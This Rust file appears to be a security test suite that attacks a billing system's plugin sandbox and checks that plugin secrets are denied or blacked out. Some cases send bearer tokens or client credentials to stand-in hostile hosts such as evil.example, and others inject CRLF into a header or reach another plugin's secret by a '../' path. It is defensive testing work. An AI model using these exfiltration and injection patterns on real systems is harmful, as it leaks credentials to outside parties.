//! Plugins that want to hold a secret, in whatever clothing.

use tollgate_billing::ports::SendFailure;
use tollgate_guests::guest::gateway;
use tollgate_guests::value::{Value, bare, case, plain, record, text};

use super::egress::{request, sender};
use super::rooms_stand;
use crate::attack::{Attack, Verdict};
use crate::ground::Ground;
use crate::rooms::{KEY, OTHER_KEY, OTHER_SECRET, Plan, Rooms, SECRET};
use crate::trap::Trap;

pub fn attacks() -> Vec<Attack> {
    vec![
        echo("echo-bearer", "has an echo service answer the bearer token", "/echo", || bearer(KEY)),
        echo("echo-basic", "has an echo service answer the password, in base64", "/echo", || basic(KEY)),
        echo("echo-header", "has an echo service answer a header with the secret", "/error", || header("x-key", KEY)),
        echo("echo-hexadecimal", "has an echo service answer it in hexadecimal", "/hex", || bearer(KEY)),
        Attack::new(
            "secrets",
            "error-text",
            "has its provider break off, and reads the error",
            |ground: Ground| async move {
                let (rooms, _) = sends(&ground, "/nonsense", bearer(KEY)).await;
                let shown = rooms.shown().await?;
                let outcome = format!("{:?}", rooms.egress.outcomes.lock());
                clean(&(shown + &outcome))
            },
        ),
        elsewhere("secret-for-a-stranger", "sends the secret to a host that was not granted", "https://evil.example/"),
        elsewhere(
            "secret-for-a-look-alike",
            "sends it to a name that begins like the granted one",
            "https://api.example.com.evil.example/",
        ),
        token_elsewhere(),
        other("secret-of-another", "names a secret that only another plugin has", OTHER_KEY),
        other("secret-by-a-path", "names another plugin's secret by a path", "../honest-1/other-token"),
        Attack::new(
            "secrets",
            "header-around-a-secret",
            "ends the header before the secret",
            |ground: Ground| async move {
                let auth = header("x-a: b\r\nx-key", KEY);
                let (rooms, trap) = sends(&ground, "/echo", auth).await;
                denied(&rooms, &trap, "header").await
            },
        ),
        Attack::new(
            "secrets",
            "redirect-with-a-secret",
            "has the secret carried on to another address",
            |ground: Ground| async move {
                let (rooms, trap) = sends(&ground, "/redirect", bearer(KEY)).await;
                rooms.shown().await?;
                let carried = trap.seen().iter().any(|request| request.contains("/reached"));
                if carried {
                    Err("it was carried on".to_owned())
                } else {
                    Ok("302 is the answer; nothing followed".to_owned())
                }
            },
        ),
        Attack::new(
            "secrets",
            "secret-in-the-settings",
            "reads its own settings for the secret",
            |ground: Ground| async move {
                // The settings are a list of (key, value) at 8 of what it is passed; the first one's value is shown.
                let first = "(local.set $at (i32.load offset=8 (i32.load offset=8 (local.get 0))))
                (local.set $bytes (i32.load offset=12 (i32.load offset=8 (local.get 0))))";
                let rooms = Rooms::around(ground.patient(), &gateway().showing(first)).await;
                let shown = rooms.shown().await?;
                clean(&shown)
            },
        ),
        kept(),
        signed(),
        logged_words(),
    ]
}

fn part(kind: &str, words: &str) -> Value {
    case(kind, text(words))
}

fn bearer(key: &str) -> Value {
    case("bearer", text(key))
}

fn basic(key: &str) -> Value {
    case("basic", record(&[("user", part("text", "client")), ("password", part("secret", key))]))
}

fn header(name: &str, key: &str) -> Value {
    let value = Value::List(vec![part("text", "key "), part("secret", key)]);
    case("header", record(&[("name", text(name)), ("value", value)]))
}

async fn sends(ground: &Ground, path: &str, auth: Value) -> (Rooms, Trap) {
    let trap = Trap::open().await;
    let request = request(&format!("http://{}{path}", trap.host())).with("auth", auth);
    (Rooms::with_provider(ground.patient(), &sender(request), &trap).await, trap)
}

/// No secret stands in what a plugin or its reader saw.
fn clean(shown: &str) -> Verdict {
    let forms = |secret: &str| {
        let hex = crate::trap::hexadecimal(secret);
        [
            secret.to_owned(),
            hex,
            "cGxhbnRlZFNlY3Jld".to_owned(),
            "wbGFudGVkU2VjcmV0".to_owned(),
            "BsYW50ZWRTZWNyZX".to_owned(),
        ]
    };
    let found =
        [SECRET, OTHER_SECRET].iter().flat_map(|secret| forms(secret)).find(|form| shown.contains(form.as_str()));
    match found {
        Some(form) => Err(format!("{form} is in {shown}")),
        None => Ok(shown.chars().take(120).collect()),
    }
}

fn echo(name: &'static str, tries: &'static str, path: &'static str, auth: fn() -> Value) -> Attack {
    Attack::new("secrets", name, tries, move |ground: Ground| async move {
        let (rooms, trap) = sends(&ground, path, auth()).await;
        let shown = rooms.shown().await?;
        // It must have gone out, or nothing was tried.
        if !trap.seen().iter().any(|request| request.contains("authorization") || request.contains("x-key")) {
            return Err(format!("no secret was sent: {shown}"));
        }
        if !shown.contains("[secret]") {
            return Err(format!("nothing was blacked out: {shown}"));
        }
        clean(&shown)
    })
}

fn elsewhere(name: &'static str, tries: &'static str, url: &'static str) -> Attack {
    Attack::new("secrets", name, tries, move |ground: Ground| async move {
        let trap = Trap::open().await;
        let guest = sender(request(url).with("auth", bearer(KEY)));
        let plan = Plan { granted: vec!["api.example.com".to_owned()], ..Plan::of(ground.patient(), &guest) };
        denied(&Rooms::open(plan).await, &trap, "is not granted").await
    })
}

fn token_elsewhere() -> Attack {
    let tries = "has the host fetch a token at a stranger's, with the client's secret";
    Attack::new("secrets", "token-at-a-stranger", tries, |ground: Ground| async move {
        let credentials = record(&[
            ("token-url", text("https://evil.example/token")),
            ("id", part("text", "client")),
            ("secret", part("secret", KEY)),
            ("scope", bare("none")),
        ]);
        let (rooms, trap) = sends(&ground, "/echo", case("client-credentials", credentials)).await;
        denied(&rooms, &trap, "is not granted").await
    })
}

fn other(name: &'static str, tries: &'static str, key: &'static str) -> Attack {
    Attack::new("secrets", name, tries, move |ground: Ground| async move {
        let (rooms, trap) = sends(&ground, "/echo", bearer(key)).await;
        denied(&rooms, &trap, "").await
    })
}

/// The plugin is told no, nothing was sent, and no secret stands in the reason.
async fn denied(rooms: &Rooms, trap: &Trap, words: &str) -> Verdict {
    let shown = rooms.shown().await?;
    let outcome = rooms.egress.outcomes.lock().first().cloned();
    match outcome {
        Some(Err(SendFailure::Denied(why))) if why.contains(words) && trap.seen().is_empty() => {
            clean(&format!("denied: {why}"))
        }
        other => Err(format!("{other:?}, sent {:?}, and the plugin shows {shown}", trap.seen())),
    }
}

fn kept() -> Attack {
    let tries = "has the host keep its provider's words as a secret, where no webhook is set up";
    Attack::new("secrets", "secret-replaced", tries, |ground: Ground| async move {
        let trap = Trap::open().await;
        let keep = record(&[("pointer", text("/a")), ("key", text(KEY))]);
        let request = request(&format!("http://{}/echo", trap.host())).with("keep", Value::List(vec![keep]));
        let rooms = Rooms::with_provider(ground.patient(), &sender(request), &trap).await;
        let shown = rooms.shown().await?;
        // The sandbox itself refuses it; egress is not even asked.
        if !shown.contains("only then") || !trap.seen().is_empty() {
            return Err(format!("sent {:?}, and the plugin shows {shown}", trap.seen()));
        }
        rooms_stand(&rooms, shown).await
    })
}

fn signed() -> Attack {
    let tries = "signs with a secret that only another plugin has";
    Attack::new("secrets", "signature-of-another", tries, |ground: Ground| async move {
        let first = "(i32.store8 (i32.const 64) (i32.const 1))
            (i32.store (i32.const 68) (i32.const 3072)) (i32.store (i32.const 72) (i32.const 11))
            (call $digest (i32.const 0) (i32.const 64) (i32.const 1) (i32.const 512))
            (if (i32.eqz (i32.load8_u (i32.const 512))) (then unreachable))
            (local.set $at (i32.load (i32.const 520))) (local.set $bytes (i32.load (i32.const 524)))";
        let guest = gateway()
            .imports("signing", "digest", "(param i32 i32 i32 i32)")
            .outside(&format!("(data (i32.const 3072) \"{OTHER_KEY}\")"))
            .showing(first);
        let rooms = Rooms::around(ground.patient(), &guest).await;
        let shown = rooms.shown().await?;
        if shown != OTHER_KEY {
            return Err(format!("it was not told that there is none: {shown}"));
        }
        rooms_stand(&rooms, format!("`no-secret({shown})`")).await
    })
}

fn logged_words() -> Attack {
    let tries = "writes a secret, which it came to know elsewhere, into an error for staff";
    Attack::new("secrets", "secret-in-an-error", tries, |ground: Ground| async move {
        let words = |kind: &str| case(kind, text(format!("key {SECRET} refused")));
        let refusal = record(&[("client", plain(format!("no {SECRET}"))), ("staff", text(SECRET))]);
        let mut said = String::new();
        for error in [words("rejected"), words("unavailable"), words("unknown"), case("declined", refusal)] {
            let guest = gateway().whole("pay-now", case("err", error));
            let rooms = Rooms::around(ground.patient(), &guest).await;
            said = format!("{said} {:?}", rooms.pay_now().await);
        }
        clean(said.trim())
    })
}
